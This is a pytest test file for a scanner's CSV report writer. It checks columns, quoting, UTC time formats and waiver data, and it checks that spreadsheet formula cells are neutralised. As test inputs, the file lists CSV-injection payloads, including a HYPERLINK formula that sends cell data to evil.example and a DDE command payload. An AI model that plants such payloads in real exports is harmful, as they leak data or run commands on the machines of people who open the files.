"""report.csv opens right in a spreadsheet and cannot run formulas planted by a server."""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest

from reports.csv_report import FIELDNAMES, CsvReporter, neutralise
from scanner.model.records import Evidence, RunResults, Verdict
from tests.support.samples import affected, meta, mixed_run, simple, waived_run


def _read(path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "BOM missing: Excel would guess the wrong encoding"
    text = raw[3:].decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _write(tmp_path, results: RunResults):
    path = tmp_path / "report.csv"
    CsvReporter().write(results, path)
    return path


def test_columns_and_one_row_per_host_needing_action_first(tmp_path):
    """The header has the documented columns and hosts needing action come first."""
    path = _write(tmp_path, mixed_run())
    rows = _read(path)
    with path.open(encoding="utf-8-sig", newline="") as fh:
        assert tuple(next(csv.reader(fh))) == FIELDNAMES
    assert FIELDNAMES[:9] == ("host", "address", "port", "scheme", "site_code", "site_type", "build",
                              "build_name", "verdict")
    assert len(rows) == len(mixed_run().hosts)
    assert [r["verdict"] for r in rows][:4] == ["AFFECTED", "AFFECTED", "AT_RISK", "ERROR"]
    assert [r["host"] for r in rows[:2]] == ["SMS-A01", "sms-a02"]  # case-insensitive name order
    assert rows[-1]["verdict"] == "NOT_APPLICABLE"


def test_row_carries_the_failure_evidence_and_window(tmp_path):
    """An AFFECTED row shows the failing log line with its file, line number and time."""
    rows = _read(_write(tmp_path, mixed_run()))
    row = next(r for r in rows if r["host"] == "SMS-A01")
    assert row["evidence_line"] == "1207"
    assert row["evidence_time"] == "2026-11-20 02:13:12"  # UTC, a form spreadsheets read as a date
    assert row["evidence_text"].startswith("Error 0x80004005")
    assert row["evidence_file"].endswith("wsyncmgr.log")
    assert row["evidence_count"] == "3"
    assert row["log_window_first"] == "2026-11-01 00:00:00"
    assert row["reason"].count("; ") == 1
    assert row["needs_action"] == "yes"
    err = next(r for r in rows if r["verdict"] == "ERROR")
    assert (err["error_category"], err["error_message"]) == ("timeout", "no answer within 60 s")
    assert err["scanned_at_utc"] == "2026-11-25 01:01:05"


def test_file_uses_crlf_and_quotes_commas_quotes_and_newlines(tmp_path):
    """Cells with commas, double quotes and line breaks survive an RFC 4180 round trip."""
    nasty = 'a, "quoted" value\nsecond line\r\nthird'
    host = affected("sms01", text=nasty)
    path = _write(tmp_path, RunResults(meta=meta(), hosts=(host,)))
    raw = path.read_bytes()
    assert raw.count(b"\r\n") >= 2 and b'"a, ""quoted"" value' in raw
    (row,) = _read(path)
    assert row["evidence_text"] == nasty


@pytest.mark.parametrize("cell", [
    pytest.param('=HYPERLINK("http://evil.example/?"&A1,"click")', id="hyperlink"),
    pytest.param("+1", id="plus"),
    pytest.param("-2", id="minus-number-text"),
    pytest.param("@SUM(A1:A9)", id="at-sum"),
    pytest.param("\tx", id="tab"),
    pytest.param("\rx", id="cr"),
    pytest.param("=cmd|' /C calc'!A0", id="dde"),
    pytest.param("  =1+1", id="leading-spaces"),
    pytest.param("\uff1d1+1", id="fullwidth-equals"),
])
def test_formula_cells_from_a_server_are_neutralised(tmp_path, cell):
    """A server-supplied cell that a spreadsheet would run as a formula is written as text."""
    host = dataclasses.replace(affected(cell, text=cell), reasons=(cell,), site_code=cell,
                               evidence=(Evidence(cell, 3, None, cell, "failure"),))
    (row,) = _read(_write(tmp_path, RunResults(meta=meta(), hosts=(host,))))
    for column in ("host", "reason", "evidence_file", "evidence_text"):
        assert row[column] == "'" + cell, column


@pytest.mark.parametrize("cell", [
    pytest.param("sms01", id="name"),
    pytest.param("10.0.0.1", id="address"),
    pytest.param("a-b=c", id="inner-signs"),
    pytest.param("", id="empty"),
])
def test_ordinary_cells_are_not_altered(cell):
    """Only cells a spreadsheet would evaluate get the quote prefix."""
    assert neutralise(cell) == cell


def test_numbers_we_write_are_not_quoted(tmp_path):
    """Port and line numbers stay numbers, so the admin can sort by them."""
    rows = _read(_write(tmp_path, mixed_run()))
    assert {r["port"] for r in rows} == {"5985", "5986"}
    assert next(r for r in rows if r["host"] == "SMS-A01")["evidence_line"] == "1207"


def test_control_characters_and_huge_lines_are_tamed(tmp_path):
    """A NUL-padded or megabyte-long log line gives a bounded, readable cell."""
    host = affected("sms01", text="crash\x00\x00 tail " + "x" * 100_000)
    (row,) = _read(_write(tmp_path, RunResults(meta=meta(), hosts=(host,))))
    assert "\x00" not in row["evidence_text"]
    assert len(row["evidence_text"]) < 2100


def test_host_without_evidence_or_error_has_empty_cells(tmp_path):
    """Missing facts are empty cells, not 'None'."""
    host = simple("sms01", Verdict.UNKNOWN, "")
    (row,) = _read(_write(tmp_path, RunResults(meta=meta(), hosts=(host,))))
    assert row["evidence_file"] == row["evidence_line"] == row["error_category"] == ""
    assert "None" not in row.values()


def test_extra_columns_are_appended_and_neutralised(tmp_path):
    """A later feature's column (e.g. change since last run) comes after the documented ones, also made safe."""
    from reports import write_reports
    from reports.csv_report import Column

    later = Column("later", lambda h, r: "=new" if h.verdict.is_finding else "same")
    write_reports(mixed_run(), tmp_path, csv_columns=[later])
    rows = _read(tmp_path / "report.csv")
    assert tuple(rows[0].keys()) == (*FIELDNAMES, "later")
    assert rows[0]["later"] == "'=new" and rows[-1]["later"] == "same"


def test_times_are_utc_in_a_form_a_spreadsheet_reads_as_dates(tmp_path):
    """Every time column is UTC `YYYY-MM-DD HH:MM:SS` (an offset in the source is converted), no T, no Z."""
    host = dataclasses.replace(affected("sms01"), finished="2026-11-25T03:00:09.5+02:00")
    (row,) = _read(_write(tmp_path, RunResults(meta=meta(), hosts=(host,))))
    assert row["scanned_at_utc"] == "2026-11-25 01:00:09"
    for column in ("evidence_time", "log_window_first", "log_window_last", "scanned_at_utc"):
        assert row[column][4] == "-" and row[column][10] == " " and len(row[column]) == 19, column


def test_waiver_and_remediation_columns(tmp_path):
    """A waived host says who accepted it until when; every host to act on says what to do."""
    rows = {r["host"]: r for r in _read(_write(tmp_path, waived_run()))}
    waived, expired = rows["sms-w10"], rows["sms-x09"]
    assert (waived["verdict"], waived["needs_action"], waived["waived"]) == ("AFFECTED", "no", "yes")
    assert (waived["waiver_owner"], waived["waiver_expires"]) == ("j.doe", "2027-01-31")
    assert waived["waiver_reason"].startswith("site retired")
    assert (expired["needs_action"], expired["waived"]) == ("yes", "expired")
    assert rows["SMS-A01"]["waived"] == "no" and "951376" in rows["SMS-A01"]["remediation"]
    assert "--rescan-failed" in rows["sms-c04"]["remediation"]  # ERROR: its category's text (no hint given)
    assert rows["sms-b03"]["remediation"] == ""  # NOT_AFFECTED: nothing to do
    assert rows["sms-b03"]["first_seen"] == rows["sms-b03"]["change"] == ""  # no history given


def test_readme_lists_every_csv_column():
    """The README's CSV column list is the one the code writes, in order."""
    from tests.paths import REPO

    readme = (REPO / "README.md").read_text(encoding="utf-8")
    listed = readme.split("<!-- csv-columns -->", 2)[1]
    names = [line.split("`")[1] for line in listed.splitlines() if line.startswith("| `")]
    assert tuple(names) == FIELDNAMES


def test_error_hint_is_the_remediation_of_an_error_row(tmp_path):
    """An ERROR row's `remediation` is its error's hint (the setting or group to fix), neutralised like any
    text; without a hint, its category's advice."""
    from scanner.model.records import ErrorCategory, HostFailure

    planted = '=HYPERLINK("http://x") then add to Administrators'
    denied = simple("sms01", Verdict.ERROR, "", error=HostFailure(ErrorCategory.ACCESS, "denied", planted))
    bare = simple("sms02", Verdict.ERROR, "", error=HostFailure(ErrorCategory.TLS, "handshake failed"))
    rows = {r["host"]: r for r in _read(_write(tmp_path, RunResults(meta=meta(), hosts=(denied, bare))))}
    assert rows["sms01"]["remediation"].startswith("'=HYPERLINK")
    assert rows["sms01"]["error_category"] == "access" and rows["sms02"]["error_category"] == "tls"
    assert "--ca-file" in rows["sms02"]["remediation"]
